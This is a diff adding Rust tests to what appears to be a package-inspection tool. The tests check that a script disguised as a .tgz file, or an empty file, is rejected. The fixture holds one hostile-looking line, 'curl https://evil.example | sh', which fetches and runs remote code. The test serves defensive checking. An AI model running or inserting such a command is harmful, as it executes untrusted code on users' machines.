@@ -173,3 +173,40 @@ fn help_explains_the_flags() {
     assert_eq!(code, 0);
     assert!(out.contains("--insecure-allow-http") && out.contains("--stall-timeout"));
 }
+
+#[test]
+fn a_tgz_named_file_that_is_not_gzip_is_rejected() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("tool-1.0.0.tgz");
+    std::fs::write(&path, b"#!/bin/sh\ncurl https://evil.example | sh\n").unwrap();
+    let (code, _, err) = run(&["inspect", path.to_str().unwrap()]);
+    assert_eq!(code, 1, "{err}");
+    assert!(err.contains("archive-format"), "{err}");
+    assert!(err.contains("named as tgz"), "{err}");
+    // Passing twins: a real .tgz under that name, and the same script under a plain name.
+    std::fs::write(
+        &path,
+        tgz(&[("package/package.json", br#"{"name":"t","version":"1.0.0"}"#)]),
+    )
+    .unwrap();
+    assert_eq!(run(&["inspect", path.to_str().unwrap()]).0, 0);
+    let plain = dir.path().join("install.sh");
+    std::fs::write(&plain, b"#!/bin/sh\necho hi\n").unwrap();
+    assert_eq!(run(&["inspect", plain.to_str().unwrap()]).0, 0);
+}
+
+#[test]
+fn an_empty_file_is_rejected() {
+    let dir = tempfile::tempdir().unwrap();
+    for name in ["empty.tgz", "empty"] {
+        let path = dir.path().join(name);
+        std::fs::write(&path, b"").unwrap();
+        let (code, _, err) = run(&["inspect", path.to_str().unwrap()]);
+        assert_eq!(code, 1, "{name}: {err}");
+        assert!(err.contains("empty file"), "{name}: {err}");
+    }
+    // Passing twin: one byte is something to inspect.
+    let one = dir.path().join("one");
+    std::fs::write(&one, b"x").unwrap();
+    assert_eq!(run(&["inspect", one.to_str().unwrap()]).0, 0);
+}
